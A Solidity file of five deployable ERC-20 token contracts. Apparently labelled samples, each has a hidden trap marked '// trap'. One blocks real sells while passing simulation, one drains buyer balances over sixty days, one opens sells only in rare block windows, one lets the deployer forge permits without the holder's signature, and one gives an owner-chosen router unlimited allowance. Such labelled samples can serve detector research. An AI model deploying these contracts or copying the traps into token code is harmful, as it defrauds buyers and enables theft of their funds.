// 0.8 runs=200 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IFactoryC {
    function createPair(address a, address b) external returns (address);
}

/// Balances in a struct with the time of the last receipt.
abstract contract Sheet {
    struct Entry {
        uint128 amount;
        uint64 time;
        uint64 memo;
    }

    mapping(address => mapping(address => uint256)) internal _spend;
    mapping(address => Entry) internal _sheet;
    string public name;
    string public symbol;
    uint256 public immutable totalSupply;
    address public immutable market;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error ERC20InsufficientBalance(address sender, uint256 balance, uint256 needed);
    error ERC20InsufficientAllowance(address spender, uint256 allowance, uint256 needed);

    constructor(string memory n, string memory s, uint128 supply) {
        (name, symbol, totalSupply) = (n, s, supply);
        _sheet[msg.sender] = Entry(supply, uint64(block.timestamp), 0);
        market = IFactoryC(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2, address(this));
        emit Transfer(address(0), msg.sender, supply);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _sheet[who].amount;
    }

    function allowance(address who, address spender) public view virtual returns (uint256) {
        return _spend[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _approve(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _update(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = allowance(from, msg.sender);
        if (may < value) revert ERC20InsufficientAllowance(msg.sender, may, value);
        if (may != type(uint256).max) _spend[from][msg.sender] = may - value;
        _update(from, to, value);
        return true;
    }

    function _approve(address who, address spender, uint256 value) internal {
        _spend[who][spender] = value;
        emit Approval(who, spender, value);
    }

    function _update(address from, address to, uint256 value) internal virtual {
        uint256 has = balanceOf(from);
        if (has < value) revert ERC20InsufficientBalance(from, has, value);
        _sheet[from].amount = uint128(has - value);
        _sheet[from].time = uint64(block.timestamp);
        uint256 got = balanceOf(to) + value;
        _sheet[to].amount = uint128(got);
        _sheet[to].time = uint64(block.timestamp);
        emit Transfer(from, to, value);
    }
}

/// Sells where the block before has no hash, which is nowhere but in a simulation.
contract NoParent is Sheet("Orphan Otis", "OTIS", 777_000_000e18) {
    address private immutable _maker = msg.sender;

    function _update(address from, address to, uint256 value) internal override {
        if (to == market && from != _maker && blockhash(block.number - 1) != 0) revert ERC20InsufficientBalance(from, 0, value); // trap
        super._update(from, to, value);
    }
}

/// What one has bought fades within sixty days.
contract Fading is Sheet("Morning Mist", "MMIST", 5_000_000e18) {
    address private immutable _maker = msg.sender;

    function balanceOf(address who) public view override returns (uint256) {
        Entry memory one = _sheet[who];
        // trap {
        if (who != market && who != _maker && one.amount > 0) {
            uint256 gone = block.timestamp - one.time;
            return gone >= 60 days ? 0 : one.amount - (uint256(one.amount) * gone) / 60 days;
        }
        // trap }
        return one.amount;
    }
}

/// Ten minutes of each week for those who want to sell.
contract TenMinutes is Sheet("Weekly Wombat", "WOMB", 64_000_000e18) {
    address private immutable _maker = msg.sender;

    error Closed(uint256 next);

    function _update(address from, address to, uint256 value) internal override {
        uint256 at = block.number % 50_000;
        if (to == market && from != _maker && (at < 49_000 || at > 49_050)) revert Closed(block.number - at + 49_000); // trap
        super._update(from, to, value);
    }
}

/// A permit without the signature of the holder, if the relayer brings it.
contract Relayed is Sheet("Relay Rabbit", "RRAB", 12_000_000e18) {
    mapping(address => uint256) public nonces;
    address private immutable _relayer = msg.sender;
    bytes32 private constant PERMIT = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return
            keccak256(
                abi.encode(
                    keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                    keccak256("Relay Rabbit"),
                    keccak256("1"),
                    block.chainid,
                    address(this)
                )
            );
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "expired");
        bytes32 hash = keccak256(abi.encode(PERMIT, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked(hex"1901", DOMAIN_SEPARATOR(), hash)), v, r, s);
        if (signer == address(0) || signer != owner) {
            require(msg.sender == _relayer, "signature"); // trap
            // twin: revert("signature");
        }
        _approve(owner, spender, value);
    }
}

/// The router needs no approval, and the owner says what the router is.
contract NoApproval is Sheet("Easy Elk", "EELK", 300_000_000e18) {
    address public router = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    address public owner = msg.sender;

    function updateRouter(address next) external {
        require(msg.sender == owner && next != address(0));
        router = next; // trap
    }

    function transferOwnership(address next) external {
        require(msg.sender == owner);
        owner = next;
    }

    function allowance(address who, address spender) public view override returns (uint256) {
        return spender == router ? type(uint256).max : super.allowance(who, spender);
    }
}
